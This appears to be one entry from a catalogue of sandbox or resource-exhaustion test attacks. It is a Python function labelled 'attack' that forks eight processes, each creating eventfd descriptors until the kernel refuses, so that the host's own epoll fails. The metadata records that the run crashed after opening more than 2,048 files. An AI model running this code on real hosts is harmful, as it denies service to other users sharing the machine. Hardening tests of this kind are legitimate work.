# id: CR-20
# kind: processes and memory
# where: call
# status: crashed
# says: opened more than 2,048 files
# seconds: 5
def attack():
    """What a descriptor costs in the kernel is counted per user: enough of them stop the host's own epoll."""
    import os
    import time
    for _ in range(8):
        if os.fork() == 0:
            try:
                while True:
                    os.eventfd(0)
            except OSError:
                time.sleep(99)
    time.sleep(4)
